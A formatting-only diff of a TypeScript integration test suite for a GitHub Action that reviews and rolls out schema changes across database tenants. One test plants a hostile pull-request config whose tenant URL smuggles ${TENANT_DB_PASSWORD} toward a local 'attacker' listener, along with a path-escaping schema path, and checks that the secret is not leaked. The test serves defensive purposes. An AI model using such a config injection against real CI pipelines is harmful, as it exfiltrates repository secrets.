@@ -82,9 +82,17 @@ async function fakeReviewApi(files: Record<string, Record<string, string>>, auth
         const path = decodeURIComponent(contents[1] ?? '');
         const text = files[url.searchParams.get('ref') ?? '']?.[path];
         if (text === undefined) return reply(404, { message: 'Not Found' });
-        return reply(200, { type: 'file', path, sha: `sha-${Buffer.from(text).toString('hex').slice(0, 32)}-${text.length}`, size: text.length, encoding: 'base64', content: Buffer.from(text).toString('base64') });
+        return reply(200, {
+          type: 'file',
+          path,
+          sha: `sha-${Buffer.from(text).toString('hex').slice(0, 32)}-${text.length}`,
+          size: text.length,
+          encoding: 'base64',
+          content: Buffer.from(text).toString('base64'),
+        });
       }
-      if (req.method === 'GET' && url.pathname.startsWith('/repos/acme/app/compare/')) return reply(200, { merge_base_commit: { sha: decodeURIComponent(url.pathname.split('/').pop() ?? '').split('...')[0] } });
+      if (req.method === 'GET' && url.pathname.startsWith('/repos/acme/app/compare/'))
+        return reply(200, { merge_base_commit: { sha: decodeURIComponent(url.pathname.split('/').pop() ?? '').split('...')[0] } });
       if (req.method === 'GET' && url.pathname === '/user') return reply(403, { message: 'Resource not accessible by integration' });
       if (req.method === 'GET' && url.pathname === '/repos/acme/app/issues/7/comments') return reply(200, Number(url.searchParams.get('page') ?? 1) === 1 ? comments : []);
       if (req.method === 'POST' && url.pathname === '/repos/acme/app/issues/7/comments') {
@@ -115,7 +123,11 @@ beforeAll(async () => {
   bundleDir = await mkdtemp(join(tmpdir(), 'sf-action-bundle-'));
   cleanup.push(bundleDir);
   // The same function `npm run build` uses for dist/, into a temp folder: dist/ itself is left alone.
-  await promisify(execFile)(process.execPath, ['--input-type=module', '-e', `const m = await import(${JSON.stringify(join(REPO_ROOT, 'scripts/build.mjs'))}); await m.buildAction(${JSON.stringify(bundleDir)});`], { cwd: REPO_ROOT });
+  await promisify(execFile)(
+    process.execPath,
+    ['--input-type=module', '-e', `const m = await import(${JSON.stringify(join(REPO_ROOT, 'scripts/build.mjs'))}); await m.buildAction(${JSON.stringify(bundleDir)});`],
+    { cwd: REPO_ROOT },
+  );
 }, 120_000);
 
 afterAll(async () => {
@@ -230,7 +242,10 @@ describe('dist/index.js, as GitHub runs it', () => {
       expect(rows[0]?.n).toBe(3);
 
       // `::add-mask::` lines are how secrets are registered with the runner, which hides them from the log.
-      const log = [stdout, stderr].join('\n').split('\n').filter((line) => !line.startsWith('::add-mask::'));
+      const log = [stdout, stderr]
+        .join('\n')
+        .split('\n')
+        .filter((line) => !line.startsWith('::add-mask::'));
       expect(stdout).toContain(`::add-mask::${ws.password}`);
       const everything = [...log, outputs, summary, ...api.requests.map((r) => r.raw)].join('\n');
       expect(everything).not.toContain(ws.password);
@@ -254,10 +269,7 @@ describe('dist/index.js, as GitHub runs it', () => {
       for (const name of ['tenant_a', 'tenant_b']) await db.exec(`CREATE SCHEMA ${name}; SET search_path TO ${name}; ${before}`);
       const ws = await workspace(api.url, db.name, { mode: 'rollout' });
       delete ws.env['INPUT_DEV-URL'];
-      await writeFile(
-        join(ws.dir, 'schema.sql'),
-        `${V2}CREATE VIEW active_users AS SELECT u.id, u.name FROM users u WHERE u.email NOT IN ('a', 'b', 'c') AND u.name IS NOT NULL;\n`,
-      );
+      await writeFile(join(ws.dir, 'schema.sql'), `${V2}CREATE VIEW active_users AS SELECT u.id, u.name FROM users u WHERE u.email NOT IN ('a', 'b', 'c') AND u.name IS NOT NULL;\n`);
       const { code, stdout } = await runAction(ws).done;
       expect(code, stdout).toBe(0);
       const final = api.requests.filter((r) => r.method === 'PATCH').at(-1)?.body as { conclusion?: string; output?: { title?: string } };
@@ -336,7 +348,17 @@ describe('dist/index.js, as GitHub runs it', () => {
     const base = 'b'.repeat(40);
     const head = 'c'.repeat(40);
     const baseConfig = ['schema: db/schema.sql', 'tenants:', '  list:', '    - id: t1', '      url: postgres://app:pw@127.0.0.1:1/t1', ''].join('\n');
-    const headConfig = ['schema: ../db/schema.sql', 'tenants:', '  list:', '    - id: evil', `      url: postgres://x:\${TENANT_DB_PASSWORD}@127.0.0.1:${attacker.port}/\${TENANT_DB_PASSWORD}`, 'lint:', '  rules:', '    drop-column: off', ''].join('\n');
+    const headConfig = [
+      'schema: ../db/schema.sql',
+      'tenants:',
+      '  list:',
+      '    - id: evil',
+      `      url: postgres://x:\${TENANT_DB_PASSWORD}@127.0.0.1:${attacker.port}/\${TENANT_DB_PASSWORD}`,
+      'lint:',
+      '  rules:',
+      '    drop-column: off',
+      '',
+    ].join('\n');
     const api = await fakeReviewApi(
       {
         [base]: { 'schemafleet.yml': baseConfig, 'db/schema.sql': V2 },
@@ -347,7 +369,13 @@ describe('dist/index.js, as GitHub runs it', () => {
     try {
       const ws = await workspace(api.url, 'postgres', { mode: 'review' });
       ws.env.GITHUB_EVENT_NAME = 'pull_request';
-      await writeFile(ws.env.GITHUB_EVENT_PATH as string, JSON.stringify({ repository: { full_name: 'acme/app', default_branch: 'main', private: true }, pull_request: { number: 7, base: { sha: base, repo: { full_name: 'acme/app' } }, head: { sha: head, repo: { full_name: 'acme/app' } } } }));
+      await writeFile(
+        ws.env.GITHUB_EVENT_PATH as string,
+        JSON.stringify({
+          repository: { full_name: 'acme/app', default_branch: 'main', private: true },
+          pull_request: { number: 7, base: { sha: base, repo: { full_name: 'acme/app' } }, head: { sha: head, repo: { full_name: 'acme/app' } } },
+        }),
+      );
       for (let run = 0; run < 3; run++) {
         const { code, stdout } = await runAction(ws).done;
         // drop-column (projects, users.name) is an error under the base config the review obeys.
@@ -364,12 +392,17 @@ describe('dist/index.js, as GitHub runs it', () => {
     }
   });
 
-  it('on SIGINT ends the check run cancelled, with the counts so far, within the runner\'s 7.5 s', async () => {
+  it("on SIGINT ends the check run cancelled, with the counts so far, within the runner's 7.5 s", async () => {
     const api = await fakeGitHubApi();
     try {
       const db = await tenantFleet(['tenant_a', 'tenant_b']);
       // A health probe that always reads high keeps the cluster paused: the rollout waits until cancelled.
-      const ws = await workspace(api.url, db.name, { mode: 'rollout' }, ['health:', '  probes:', '    - name: always-busy', '      kind: sql', '      query: SELECT 100', '      pauseAbove: 10', '      every: 1s'].join('\n'));
+      const ws = await workspace(
+        api.url,
+        db.name,
+        { mode: 'rollout' },
+        ['health:', '  probes:', '    - name: always-busy', '      kind: sql', '      query: SELECT 100', '      pauseAbove: 10', '      every: 1s'].join('\n'),
+      );
       let paused: () => void = () => undefined;
       const isPaused = new Promise<void>((resolve) => (paused = resolve));
       const action = runAction(ws, (out) => {
